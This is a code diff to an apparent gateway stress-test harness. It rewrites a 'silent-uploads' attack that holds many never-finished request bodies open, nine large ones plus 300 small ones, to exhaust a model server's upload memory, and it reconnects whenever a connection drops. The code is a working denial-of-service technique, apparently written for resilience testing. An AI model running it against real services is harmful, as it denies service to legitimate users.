@@ -14,7 +14,7 @@ SMALL = b'{"model":"tiny","max_tokens":1,"prompt":"x"}'
 
 
 class SilentUploads(Attack):
-    """Nine bodies of 60 MB that are never finished: all that may be held but for 9 KB.
+    """Nine bodies of 60 MB that are never finished, and small ones that fill what is left.
 
     Every 100 KB request got 503 until the attacker left. Connections that are ended are made anew.
     """
@@ -22,16 +22,18 @@ class SilentUploads(Attack):
     name = "silent-uploads"
     item = 6
     needs = BOTH
-    uploads: ClassVar[int] = 9
-    body_bytes: ClassVar[int] = (512 << 20) // 9 - 1_000
+    large: ClassVar[tuple[int, int]] = (9, ((512 << 20) - 1_000_000) // 9)
+    """How many, and the bytes of each: nearly all that may be held."""
+    small: ClassVar[tuple[int, int]] = (300, 4_000)
 
     async def run(self, target: Target, tally: Tally) -> None:
         async with asyncio.TaskGroup() as tasks:
-            for _ in range(self.uploads):
-                tasks.create_task(self._upload(target, tally))
+            for count, size in (self.large, self.small):
+                body = b'{"prompt":"' + b"a" * size
+                for _ in range(count):
+                    tasks.create_task(self._upload(target, body, tally))
 
-    async def _upload(self, target: Target, tally: Tally) -> None:
-        body = b'{"prompt":"' + b"a" * (self.body_bytes - 11)
+    async def _upload(self, target: Target, body: bytes, tally: Tally) -> None:
         while True:
             try:
                 reader, writer = await asyncio.open_connection(HOST, target.gateway)
@@ -40,8 +42,8 @@ class SilentUploads(Attack):
                 await asyncio.sleep(1)
                 continue
             try:
-                writer.write(head(self.body_bytes + 2, COMPLETIONS))
-                for start in range(0, self.body_bytes, 1_000_000):
+                writer.write(head(len(body) + 2, COMPLETIONS))
+                for start in range(0, len(body), 1_000_000):
                     writer.write(body[start : start + 1_000_000])
                     await writer.drain()
                 tally["sent but for the end"] += 1
